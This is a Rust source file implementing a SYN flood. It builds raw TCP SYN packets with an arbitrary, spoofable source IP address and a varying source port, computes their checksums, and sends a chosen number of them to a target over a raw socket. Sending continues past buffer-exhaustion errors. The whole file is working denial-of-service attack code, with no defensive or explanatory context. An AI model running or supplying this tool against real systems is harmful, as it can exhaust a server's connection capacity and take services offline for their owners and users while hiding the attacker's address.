// SPDX-License-Identifier: Apache-2.0
//! A SYN flood from a raw socket.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};

use socket2::{Domain, Protocol, Socket, Type};

const IP: usize = 20;
const TCP: usize = 20;
const SYN: u8 = 0x02;

/// Sends `count` SYNs from an address to `target`, each from a port of its own; no socket is behind them.
pub fn syns(source: Ipv4Addr, target: SocketAddrV4, count: u32) -> io::Result<()> {
    let raw = Protocol::from(libc::IPPROTO_RAW);
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(raw))?;
    let to = SocketAddr::from(target).into();
    for number in 0..count {
        let port = 1024 + (number.wrapping_mul(7919) % 60_000) as u16;
        match socket.send_to(&syn(SocketAddrV4::new(source, port), target), &to) {
            Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) => {}
            result => drop(result?),
        }
    }
    Ok(())
}

/// A SYN with its IPv4 header; the kernel fills in that header's checksum and identification.
fn syn(source: SocketAddrV4, target: SocketAddrV4) -> Vec<u8> {
    let mut packet = vec![0; IP + TCP];
    packet[0] = 0x45;
    packet[2..4].copy_from_slice(&((IP + TCP) as u16).to_be_bytes());
    packet[8] = 64;
    packet[9] = libc::IPPROTO_TCP as u8;
    packet[12..16].copy_from_slice(&source.ip().octets());
    packet[16..20].copy_from_slice(&target.ip().octets());
    let tcp = &mut packet[IP..];
    tcp[0..2].copy_from_slice(&source.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[12] = ((TCP / 4) as u8) << 4;
    tcp[13] = SYN;
    tcp[14..16].copy_from_slice(&u16::MAX.to_be_bytes());
    let pseudo = [&packet[12..20], &[0, libc::IPPROTO_TCP as u8, 0, TCP as u8]].concat();
    let checksum = !fold(sum(&pseudo) + sum(&packet[IP..]));
    packet[IP + 16..IP + 18].copy_from_slice(&checksum.to_be_bytes());
    packet
}

fn sum(bytes: &[u8]) -> u32 {
    bytes.chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum()
}

fn fold(sum: u32) -> u16 {
    let once = (sum & 0xffff) + (sum >> 16);
    ((once & 0xffff) + (once >> 16)) as u16
}
